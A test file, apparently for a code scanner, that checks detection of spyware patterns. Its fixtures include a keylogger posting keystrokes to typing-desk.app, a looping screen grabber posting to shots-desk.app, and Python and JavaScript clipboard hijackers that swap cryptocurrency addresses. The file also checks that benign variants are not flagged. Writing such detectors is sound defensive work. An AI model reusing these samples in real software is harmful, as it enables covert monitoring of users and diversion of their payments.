import { expect, test } from "vitest";
import { found } from "../test-support/package-of";

const hits = async (path: string, text: string) =>
  (await found(path, text)).filter((finding) => /watched_user|diverted_payment/.test(finding));
const LISTENER = `from pynput import keyboard
import requests, threading
buf = []
def on(key):
    buf.append(str(key))
def flush():
    requests.post("https://typing-desk.app/k", json=buf)
    threading.Timer(30, flush).start()
flush()
keyboard.Listener(on_press=on).start()
`;
const SCREEN = `import time, requests
from PIL import ImageGrab
while True:
    requests.post("https://shots-desk.app/s", data=str(ImageGrab.grab().size))
    time.sleep(20)
`;
const SWAP = `import re, time, pyperclip
while True:
    if re.fullmatch(r"(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,59}", pyperclip.paste()):
        pyperclip.copy(OWN)
`;

test("finds who hears every key and reports", async () => {
  expect(await hits("a.py", LISTENER)).toStrictEqual(["block watched_user:7"]);
});

test("finds who watches the screen all along and reports", async () => {
  expect(await hits("a.py", SCREEN)).toStrictEqual(["warn watched_user:4"]);
});

test("finds who swaps the address of a purse", async () => {
  expect(await hits("a.py", SWAP)).toStrictEqual(["block diverted_payment:4"]);
  expect(
    await hits(
      "a.js",
      "const t = clipboardy.readSync();\nif (/^0x[a-fA-F0-9]{40}$/.test(t)) clipboardy.writeSync(mine);",
    ),
  ).toStrictEqual(["block diverted_payment:2"]);
});

test.each([
  ["one combination", LISTENER.replaceAll("keyboard.Listener(on_press=on)", "keyboard.GlobalHotKeys({})")],
  ["the machine itself", LISTENER.replace("typing-desk.app", "localhost:8080")],
  ["one picture", SCREEN.replace("while True", "if True")],
  ["an address that is copied", 'import pyperclip\npyperclip.copy("0x52908400098527886E0F7030069857D2E4169EE7")\n'],
  ["formatting taken off", "import pyperclip\npyperclip.copy(pyperclip.paste().strip())\n"],
])("leaves alone: %s", async (_, text) => {
  expect(await hits("a.py", text)).toStrictEqual([]);
});
